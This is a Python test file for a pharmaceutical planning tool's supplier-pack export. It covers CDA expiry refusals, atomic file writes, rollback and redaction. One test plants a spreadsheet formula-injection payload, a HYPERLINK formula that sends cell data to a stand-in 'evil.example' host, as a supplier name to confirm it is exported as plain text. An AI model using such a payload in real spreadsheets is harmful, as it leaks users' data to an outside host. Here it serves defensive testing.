import hashlib
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from planner.domain.criteria import SetStatus
from planner.excel import pack_files
from planner.services import packs
from planner.services.cmos import CmoService
from planner.services.criteria_sets import CriteriaSetService
from planner.services.disclosure_outlook import pack_outlook
from planner.services.disclosure_register import DisclosureRegister
from planner.services.engagements import EngagementService
from planner.services.errors import Conflict
from planner.services.pack_identity import STORE_ID_SETTING, set_sponsor_name, sponsor_name
from planner.services.packs import (
    PackRefused,
    export_pack,
    export_packs_for_candidates,
    pack_file_name,
    preview_pack,
)
from planner.store.models import ChangeLogRow, PackRow, StoreSettingRow


def ids(store, program: str, cmo: str) -> tuple[int, int]:
    return EngagementService(store).find(program).id, CmoService(store).find_by_name(cmo).id


def pack_rows(store) -> list[PackRow]:
    with store.reading() as s:
        return list(s.scalars(select(PackRow)))


def fake_pdf(html: str, path: Path) -> None:
    path.write_text(html, encoding="utf-8")


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """An empty folder: the demo store lives in tmp_path too."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


@pytest.fixture
def kestrelmoor(demo_store) -> tuple[int, int]:
    return ids(demo_store, "ORP-2417", "Kestrelmoor Chimica Milano")


def test_preview_of_an_aligned_engagement(demo_store, kestrelmoor) -> None:
    preview = preview_pack(demo_store, *kestrelmoor)
    assert preview.can_export and preview.refusal is None
    assert preview.cmo == "Kestrelmoor Chimica Milano"
    assert any("communicates version 1" in w for w in preview.warnings)
    assert any("CDA" in w and "expires" in w for w in preview.warnings)
    assert set(preview.disclosed) == {"ORP-2417"}


def test_export_writes_the_file_and_records_the_pack_in_one_go(
    demo_store, kestrelmoor, out: Path
) -> None:
    eid, cid = kestrelmoor
    target = out / "pack.xlsx"
    result = export_pack(demo_store, eid, cid, target, user="rahul")
    assert target.is_file() and list(target.parent.iterdir()) == [target]
    assert result.sha256 == hashlib.sha256(target.read_bytes()).hexdigest()
    assert result.communicated and result.criteria_version == 1
    (row,) = pack_rows(demo_store)
    assert row.id == result.pack_id and (row.engagement_id, row.cmo_id) == (eid, cid)
    assert row.file_hash == result.sha256 and row.file_name == "pack.xlsx"
    assert row.created_by == "rahul" and row.pdf_hash == ""
    assert (row.criteria_version, row.timeline_version) == (1, result.timeline_version)
    assert row.disclosed == pack_outlook(demo_store, eid, cid).disclosed()
    assert row.disclosed["ORP-2417"]["level"] == 3
    assert CriteriaSetService(demo_store).shareable(eid).status is SetStatus.COMMUNICATED
    with demo_store.reading() as s:
        assert s.get(StoreSettingRow, STORE_ID_SETTING).value
        actions = set(s.scalars(select(ChangeLogRow.action)))
    assert {"exported", "communicated"} <= actions
    again = export_pack(demo_store, eid, cid, out / "again.xlsx")
    assert not again.communicated and again.pack_id != result.pack_id
    (entry,) = [
        p for p in DisclosureRegister(demo_store).packs(cmo_id=cid) if p.pack_id == result.pack_id
    ]
    assert entry.disclosed[0].asset_code == "ORP-2417" and entry.disclosed[0].fields


def test_an_expired_cda_refuses_the_export(demo_store, out: Path) -> None:
    eid, cid = ids(demo_store, "ORP-5530", "Lianyun Nucleic Acid Manufacturing")
    preview = preview_pack(demo_store, eid, cid)
    assert not preview.can_export and "CDA" in preview.refusal and "expired" in preview.refusal
    with pytest.raises(PackRefused, match="No pack may go to Lianyun.*CDA.*expired"):
        export_pack(demo_store, eid, cid, out / "pack.xlsx")
    assert list(out.iterdir()) == [] and pack_rows(demo_store) == []


def test_a_cmo_that_is_not_a_candidate_gets_no_pack(demo_store, out: Path) -> None:
    eid, cid = ids(demo_store, "ORP-5530", "Hanbit BioWorks Songdo")
    assert preview_pack(demo_store, eid, cid).content is None
    with pytest.raises(PackRefused, match="neither the engagement's chosen CMO"):
        export_pack(demo_store, eid, cid, out / "pack.xlsx")


def test_criteria_in_review_are_left_out_with_a_warning(demo_store, out: Path) -> None:
    eid, cid = ids(demo_store, "ORP-4021", "Bernina Sterile")
    result = export_pack(demo_store, eid, cid, out / "pack.xlsx")
    assert result.criteria_version is None and not result.communicated
    assert any("not aligned yet" in w for w in result.warnings)
    assert CriteriaSetService(demo_store).current(eid).status is SetStatus.IN_REVIEW


def test_the_pdf_is_written_through_the_given_writer(demo_store, kestrelmoor, out: Path) -> None:
    with pytest.raises(ValueError, match="no PDF writer"):
        export_pack(demo_store, *kestrelmoor, out / "p.xlsx", pdf_path=out / "p.pdf")
    assert list(out.iterdir()) == []
    result = export_pack(
        demo_store,
        *kestrelmoor,
        out / "p.xlsx",
        pdf_writer=fake_pdf,
        pdf_path=out / "p.pdf",
    )
    html = (out / "p.pdf").read_text(encoding="utf-8")
    assert result.pack_id in html and "Questions for your response" in html
    (row,) = pack_rows(demo_store)
    assert row.pdf_hash == result.pdf_sha256 == hashlib.sha256(html.encode()).hexdigest()


def test_a_failing_pdf_writer_leaves_nothing_behind(demo_store, kestrelmoor, out) -> None:
    (out / "p.xlsx").write_bytes(b"old pack")

    def broken(html: str, path: Path) -> None:
        path.write_bytes(b"%PDF half")
        raise RuntimeError("printer on fire")

    with pytest.raises(RuntimeError, match="printer on fire"):
        export_pack(
            demo_store,
            *kestrelmoor,
            out / "p.xlsx",
            pdf_writer=broken,
            pdf_path=out / "p.pdf",
        )
    assert sorted(p.name for p in out.iterdir()) == ["p.xlsx"]
    assert (out / "p.xlsx").read_bytes() == b"old pack"
    assert pack_rows(demo_store) == []


def test_an_export_killed_mid_write_keeps_the_old_file(
    demo_store, kestrelmoor, out: Path, monkeypatch
) -> None:
    target = out / "pack.xlsx"
    target.write_bytes(b"the pack sent last week")

    def half_then_fail(handle, data: bytes) -> None:
        handle.write(data[: len(data) // 2])
        raise OSError("No space left on device")

    monkeypatch.setattr(pack_files, "_write", half_then_fail)
    with pytest.raises(OSError, match="No space"):
        export_pack(demo_store, *kestrelmoor, target)
    assert target.read_bytes() == b"the pack sent last week"
    assert [p.name for p in out.iterdir()] == ["pack.xlsx"]
    assert pack_rows(demo_store) == []
    assert CriteriaSetService(demo_store).shareable(kestrelmoor[0]).status is SetStatus.ALIGNED


@pytest.mark.parametrize("old", [b"the pack sent last week", None])
def test_a_failing_register_write_restores_the_old_file(
    demo_store, kestrelmoor, out: Path, monkeypatch, old
) -> None:
    target = out / "pack.xlsx"
    if old is not None:
        target.write_bytes(old)

    def fail(*args, **kwargs):
        raise Conflict("database is locked")

    monkeypatch.setattr(packs, "_record", fail)
    with pytest.raises(Conflict):
        export_pack(demo_store, *kestrelmoor, target)
    if old is None:
        assert list(out.iterdir()) == []
    else:
        assert target.read_bytes() == old and [p.name for p in out.iterdir()] == ["pack.xlsx"]
    assert pack_rows(demo_store) == []


def test_criteria_changed_meanwhile_roll_the_export_back(
    demo_store, kestrelmoor, out: Path, monkeypatch
) -> None:
    eid, cid = kestrelmoor
    real = packs.stage_bytes

    def edit_then_stage(target, data):
        cs = CriteriaSetService(demo_store).current(eid)
        first = cs.criteria[0]
        first.description += " (revised)"
        CriteriaSetService(demo_store).update_criterion(cs.id, first)  # back to draft
        return real(target, data)

    monkeypatch.setattr(packs, "stage_bytes", edit_then_stage)
    with pytest.raises(Conflict, match="criteria changed while the pack was written"):
        export_pack(demo_store, eid, cid, out / "pack.xlsx")
    assert list(out.iterdir()) == [] and pack_rows(demo_store) == []


def test_export_for_every_candidate(demo_store, out: Path) -> None:
    eid = EngagementService(demo_store).find("ORP-5530").id
    done = export_packs_for_candidates(demo_store, eid, out, pdf_writer=fake_pdf)
    by_cmo = {d.cmo: d for d in done}
    assert set(by_cmo) == {
        "Kranji Chemical Development",
        "Lianyun Nucleic Acid Manufacturing",
        "Zuidhaven Pharma",
    }
    assert by_cmo["Lianyun Nucleic Acid Manufacturing"].result is None
    assert "CDA" in by_cmo["Lianyun Nucleic Acid Manufacturing"].refusal
    assert sorted(p.name for p in out.iterdir()) == [
        "ORP-5530 alignment pack – Kranji Chemical Development.pdf",
        "ORP-5530 alignment pack – Kranji Chemical Development.xlsx",
        "ORP-5530 alignment pack – Zuidhaven Pharma.pdf",
        "ORP-5530 alignment pack – Zuidhaven Pharma.xlsx",
    ]
    with demo_store.reading() as s:
        assert s.scalar(select(func.count()).select_from(PackRow)) == 2


@pytest.mark.parametrize(
    ("engagement", "cmo", "name"),
    [
        ("ORP-1", "Acme", "ORP-1 alignment pack – Acme.xlsx"),
        ("A/B: C", 'Mix*"ed?<>|', "A B C alignment pack – Mix ed.xlsx"),
        ("x", "tab\there.", "x alignment pack – tab here.xlsx"),
        ("CON", "y", "CON alignment pack – y.xlsx"),
        ("", "", "alignment pack –.xlsx"),
    ],
)
def test_pack_file_names_are_safe(engagement, cmo, name) -> None:
    assert pack_file_name(engagement, cmo) == name


def test_sponsor_name_round_trip(store) -> None:
    assert sponsor_name(store) == ""
    set_sponsor_name(store, "  Orpheline   Therapeutics ")
    assert sponsor_name(store) == "Orpheline Therapeutics"


def test_export_on_a_later_date_applies_the_gates_of_that_date(
    demo_store, kestrelmoor, out
) -> None:
    with pytest.raises(PackRefused, match="CDA"):
        export_pack(demo_store, *kestrelmoor, out / "p.xlsx", on=date(2026, 12, 20))


def test_a_formula_looking_supplier_name_stays_text(demo_store, kestrelmoor, out: Path) -> None:
    cmos = CmoService(demo_store)
    cmo = cmos.get(kestrelmoor[1])
    cmo.name = '=HYPERLINK("http://evil.example/?"&A1,"Kestrelmoor")'
    cmos.update(cmo)
    result = export_pack(demo_store, *kestrelmoor, out / "pack.xlsx")
    with zipfile.ZipFile(result.path) as archive:
        for name in archive.namelist():
            assert not re.search(rb"<(?:\w+:)?f[\s/>]", archive.read(name)), name
    cell = openpyxl.load_workbook(result.path)["Cover"]["B5"]
    assert cell.value == cmo.name and cell.data_type == "s"


def test_a_withheld_code_in_the_engagement_title_is_redacted(demo_store, tmp_path) -> None:
    """ORP-4021 is shared at L1 (no code) with its candidates, yet the engagement is named after it."""
    import zipfile

    from planner.services.engagements import EngagementService
    from planner.services.packs import export_pack, preview_pack

    engagement = EngagementService(demo_store).find("ORP-4021")
    cmo_id = engagement.candidate_ids[0]
    preview = preview_pack(demo_store, engagement.id, cmo_id)
    assert "ORP-4021" not in preview.content.cover.engagement
    assert preview.content.cover.program == "[withheld]"
    out = tmp_path / "pack.xlsx"
    export_pack(demo_store, engagement.id, cmo_id, out)
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            assert b"ORP-4021" not in archive.read(name), name
